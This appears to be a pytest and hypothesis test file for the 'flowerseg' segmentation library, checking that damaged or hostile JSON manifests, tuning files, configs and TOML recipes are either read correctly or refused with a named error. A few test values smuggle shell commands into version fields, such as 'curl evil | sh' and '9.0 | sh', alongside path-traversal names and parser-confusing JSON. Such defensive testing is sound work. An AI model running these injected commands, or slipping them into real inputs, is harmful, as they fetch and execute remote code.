"""Damaged files that flowerseg reads: each is right, or refused in a sentence."""

import base64
import dataclasses
import json
import os
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flowerseg.artifact import (
    Artifact,
    Batch,
    BuiltFor,
    Data,
    EngineBuild,
    Kind,
    Manifest,
    Parent,
    Precision,
    SelfTest,
    TrtexecCommands,
    read_manifest,
)
from flowerseg.backends.null import NullBackend
from flowerseg.cli.train import train
from flowerseg.errors import ArtifactError, FlowersegError, TrainingError
from flowerseg.images import encode_png
from flowerseg.preprocess import Preprocess
from flowerseg.proofrecord import Fault, FaultKind, Limits, Proof, WorstPhoto
from flowerseg.selftest import require_same_map
from flowerseg.smallfiles import MOST_BYTES, read_small_text
from flowerseg.train import RunFolder, TrainConfig
from flowerseg.tuned import Machine, Tuned, read_tuned
from tests.hostile import HOSTILE_JSON, damaged_bytes, hostile_json

FRAME_HW = (32, 48)
GREY = np.zeros(FRAME_HW, np.uint8)
PHOTO = np.zeros((40, 40, 3), np.uint8)
MANIFEST = Manifest(
    kind=Kind.ONNX,
    architecture="deeplabv3_resnet50",
    precision=Precision.FP16,
    preprocess=Preprocess(FRAME_HW),
    keep_fp32=("classifier.*",),
    batch=Batch(1, 2, 4),
    profiles=(Batch(1, 1, 1), Batch(2, 2, 4)),
    engine=EngineBuild(workspace_mib=64, optimisation_level=3),
    sha256="ab" * 32,
    parents=(Parent(Kind.CHECKPOINT, "a.pt", "ab"),),
    data=Data("mine", "f", 3, 2, 0.5),
    proof=Proof(
        "proved",
        "by hand",
        Limits(0.9, 0.1),
        batch_sizes=(1, 4),
        model_iou=0.75,
        faults=(Fault(FaultKind.FLIPPED, 0.5, 0.1, "rose", (1, 4)),),
        worst=(WorstPhoto("rose", 1, 0.9, 3),),
    ),
    built_for=BuiltFor("H200", "9.0", "Linux", ("avx2",)),
    versions={"torch": "2.9", "opencv-python-headless": "5.0"},
    selftest=SelfTest(*(base64.b64encode(encode_png(a)).decode() for a in (PHOTO, GREY))),
    trtexec={"10": TrtexecCommands("trtexec", ("trtexec",))},
)
TUNED = Tuned(
    model="flower.onnx",
    sha256="ab" * 32,
    machine=Machine("cpu", "EPYC", 2),
    goal="throughput",
    runtime="onnxruntime",
    batch=8,
    threads=2,
    streams=1,
    cuda_graph=False,
    images_per_s=100.0,
    flower_iou=0.9,
    agreement_iou=None,
    measured="2026-11-22T00:00:00+00:00",
)
CONFIG = TrainConfig(data=Path("flowers"), out=Path("runs/first"))
RECIPE = 'arch = "deeplabv3_resnet50"\nepochs = 3\nlr = 0.01\nfault = ["unpadded-head"]\n'

many = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
Read = Callable[[Path], object]


def _document(value: Any) -> Any:
    return json.loads(json.dumps(dataclasses.asdict(value), default=str))


def _use_manifest(path: Path) -> None:
    manifest = read_manifest(path)
    manifest.to_json()
    require_same_map(Artifact(path.with_suffix(""), manifest), NullBackend(FRAME_HW))


def _use_config(path: Path) -> None:
    RunFolder(path.parent).config()


READERS: dict[str, tuple[str, Any, Read]] = {
    "manifest": ("a.onnx.json", _document(MANIFEST), _use_manifest),
    "tuned": ("tuned.json", _document(TUNED), read_tuned),
    "config": ("config.json", _document(CONFIG), _use_config),
}


@pytest.fixture
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("damaged")


@pytest.fixture(params=READERS)
def reader(request: pytest.FixtureRequest) -> tuple[str, Any, Read]:
    return READERS[request.param]


def test_what_is_damaged_below_is_right_as_it_is(
    folder: Path, reader: tuple[str, Any, Read]
) -> None:
    name, document, read = reader
    for text in (json.dumps(document), "\ufeff" + json.dumps(document)):
        (folder / name).write_text(text, encoding="utf-8")
        read(folder / name)


@given(data=st.data())
@many
def test_hostile_values_are_right_or_refused(
    folder: Path, reader: tuple[str, Any, Read], data: st.DataObject
) -> None:
    name, document, read = reader
    (folder / name).write_text(data.draw(hostile_json(document)))
    with suppress(FlowersegError):
        read(folder / name)


@given(data=st.data())
@many
def test_damaged_bytes_are_right_or_refused(
    folder: Path, reader: tuple[str, Any, Read], data: st.DataObject
) -> None:
    name, document, read = reader
    (folder / name).write_bytes(data.draw(damaged_bytes(json.dumps(document).encode())))
    with suppress(FlowersegError):
        read(folder / name)


@pytest.mark.parametrize("field", ["threshold", "batch", "data", "proof", "preprocess", "parents"])
@pytest.mark.parametrize("value", HOSTILE_JSON, ids=lambda value: value[:12])
def test_manifest_with_a_hostile_field(folder: Path, field: str, value: str) -> None:
    document = _document(MANIFEST) | {field: "@here@"}
    path = folder / "a.onnx.json"
    path.write_text(json.dumps(document).replace('"@here@"', value))
    if value == "0.5" and field == "threshold":
        read_manifest(path)
    elif value in ("null", "[]", "{}") and field != "threshold":
        with suppress(ArtifactError):
            read_manifest(path)
    else:
        with pytest.raises(ArtifactError, match=r"a\.onnx\.json: ") as refused:
            read_manifest(path)
        assert len(str(refused.value)) < 400


def _built_for(compute_capability: str) -> dict[str, str]:
    return {"gpu": "", "system": "Linux", "compute_capability": compute_capability}


@pytest.mark.parametrize(
    ("place", "value", "said"),
    [
        ("threshold", 1.5, "threshold must lie between 0 and 1, not 1.5"),
        ("threshold", 0, "threshold must lie between 0 and 1, not 0"),
        ("batch", {"min": 1, "opt": 1, "max": 10**9}, "max <= 65536"),
        ("proof", {"status": "proved", "how": "", "agreement_iou": 1.5}, "agreement_iou must be"),
        ("proof", {"status": "proved", "how": "", "batch_sizes": [0]}, "batch_sizes must be"),
        ("parents", [{"kind": "onnx", "name": "../a", "sha256": ""}], "that of a file"),
        ("preprocess", {"size_hw": [10**9, 32]}, "size_hw must lie between 32 and 4096"),
        ("data", {"name": "", "fingerprint": "", "train_photos": -1}, "train_photos|missing"),
        ("engine", {"optimisation_level": 10}, "optimisation_level must be between 0 and 9"),
        ("versions", {"tensorrt": "\u00b2"}, "is no version of 'tensorrt'"),
        ("versions", {"tensorrt": "10.1; now run: curl evil | sh"}, "is no version of 'tensorrt'"),
        ("versions", {"torch": ""}, "is no version of 'torch'"),
        ("built_for", _built_for("\u00b2.0"), "is no compute capability"),
        ("built_for", _built_for("9.0 | sh"), "is no compute capability"),
    ],
)
def test_number_out_of_range_is_named(folder: Path, place: str, value: Any, said: str) -> None:
    path = folder / "a.onnx.json"
    path.write_text(json.dumps(_document(MANIFEST) | {place: value}))
    with pytest.raises(ArtifactError, match=said):
        read_manifest(path)


@pytest.mark.parametrize("ranges", [(Batch(65536, 65536, 65536),), (Batch(65, 65, 65),)])
@pytest.mark.parametrize("place", ["batch", "profiles"])
def test_smallest_batch_that_no_memory_holds_is_refused(
    folder: Path, place: str, ranges: tuple[Batch, ...]
) -> None:
    """The self-test stacks its photo until it is a batch that the file takes."""
    sizes: dict[str, Any] = {"profiles": (), place: ranges[0] if place == "batch" else ranges}
    manifest = dataclasses.replace(MANIFEST, **sizes)
    document = _document(manifest) | {"preprocess": {"size_hw": [4096, 4096]}}
    (folder / "a.json").write_text(json.dumps(document))
    with pytest.raises(ArtifactError, match="4096 x 4096 pixels"):
        read_manifest(folder / "a.json")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"schema": 1, "schema": 1}', "'schema' occurs more than once|schema.* occurs"),
        ('{"schema": NaN}', "NaN is not a number"),
        ('{"schema": 1e999}', "too large a number"),
        ('{"schema": ' + "1" * 5000 + "}", "too large a number"),
        ("[" * 100_000, "nested too deep"),
        ('{"schema": "\\ud800"}', "half a surrogate pair"),
    ],
)
def test_json_that_two_readers_may_understand_differently(
    folder: Path, text: str, said: str
) -> None:
    (folder / "a.json").write_text(text)
    with pytest.raises(ArtifactError, match=f"not a readable manifest: .*{said}"):
        read_manifest(folder / "a.json")


@given(content=damaged_bytes(RECIPE.encode()))
@many
def test_damaged_recipe_is_right_or_wrong_usage(
    folder: Path, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    _assert_recipe_ends_in_words(folder, content, monkeypatch)


@pytest.mark.parametrize("name", ["arch", "epochs", "lr", "fault", "data", "cache", "seed", "size"])
@pytest.mark.parametrize(
    "value",
    ["1", "-1", "1.5", "nan", "inf", "1e999", "9" * 400, "9" * 5000,
     "0x" + "f" * 5000, "[0x" + "f" * 5000 + "]", "true", '""', '"\\u0000"', "[]", "[1]",
     "{a = 1}", "1979-05-27", '["a", "a"]', "[[[]]]", '"' + "x" * 9999 + '"'],
    ids=lambda value: value[:9],
)  # fmt: skip
def test_hostile_setting_of_a_recipe(
    folder: Path, name: str, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _assert_recipe_ends_in_words(folder, f"{name} = {value}\n".encode(), monkeypatch)


def _assert_recipe_ends_in_words(
    folder: Path, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stop(*_: object, **__: object) -> None:
        raise TrainingError("only parsed")

    monkeypatch.setattr("flowerseg.train.train", stop)
    (folder / "a.toml").write_bytes(content)
    options = ["--recipe", str(folder / "a.toml"), "--out", str(folder / "out")]
    result = CliRunner().invoke(
        train, [*options, "--data", "x"] if b"data" not in content else options
    )
    assert result.exit_code in (1, 2)
    assert isinstance(result.exception, SystemExit), result.exception


@pytest.fixture(params=["pipe", "device", "folder", "missing", "loop", "huge", "utf-16"])
def unreadable(request: pytest.FixtureRequest, folder: Path) -> Path:
    """A path that is no small text file."""
    path = folder / "config.json"
    match request.param:
        case "pipe":
            os.mkfifo(path)
        case "device":
            path.symlink_to("/dev/zero")
        case "folder":
            path.mkdir()
        case "loop":
            path.symlink_to(path)
        case "huge":
            path.touch()
            os.truncate(path, MOST_BYTES + 1)
        case "utf-16":
            path.write_text("{}", encoding="utf-16")
    return path


READ_FILE: dict[str, tuple[Read, type[FlowersegError]]] = {
    "manifest": (read_manifest, ArtifactError),
    "tuned": (read_tuned, ArtifactError),
    "config": (_use_config, TrainingError),
}


@pytest.mark.parametrize("kind", READ_FILE)
def test_file_that_is_no_small_text_file_is_refused_at_once(unreadable: Path, kind: str) -> None:
    read, error = READ_FILE[kind]
    with pytest.raises(error, match=r"config\.json"):
        read(unreadable)


def test_recipe_that_is_no_small_text_file_is_refused_at_once(unreadable: Path) -> None:
    result = CliRunner().invoke(train, ["--recipe", str(unreadable)])
    assert result.exit_code == 2
    assert "cannot be read as TOML" in result.stderr


def test_text_is_read_as_utf_8_with_or_without_bom(folder: Path) -> None:
    for encoding in ("utf-8", "utf-8-sig"):
        (folder / "a").write_text("Blütenblätter", encoding=encoding)
        assert read_small_text(folder / "a") == "Blütenblätter"


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"photo": "%%%"}, "the self-test cannot be read"),
        ({"photo": "é"}, "the self-test cannot be read"),
        ({"photo": ""}, "the self-test cannot be read"),
        ({"foreground": ""}, "the self-test cannot be read"),
        (
            {"foreground": base64.b64encode(encode_png(PHOTO)).decode()},
            "the map of the self-test is 40 x 40, and the model's frames are 32 x 48",
        ),
    ],
)
def test_self_test_that_is_damaged(folder: Path, changed: dict[str, str], said: str) -> None:
    selftest = dataclasses.replace(MANIFEST.selftest, **changed)  # type: ignore[type-var]  # not None
    manifest = dataclasses.replace(MANIFEST, selftest=selftest)
    with pytest.raises(ArtifactError, match=said):
        require_same_map(Artifact(folder / "a.onnx", manifest), NullBackend(FRAME_HW))
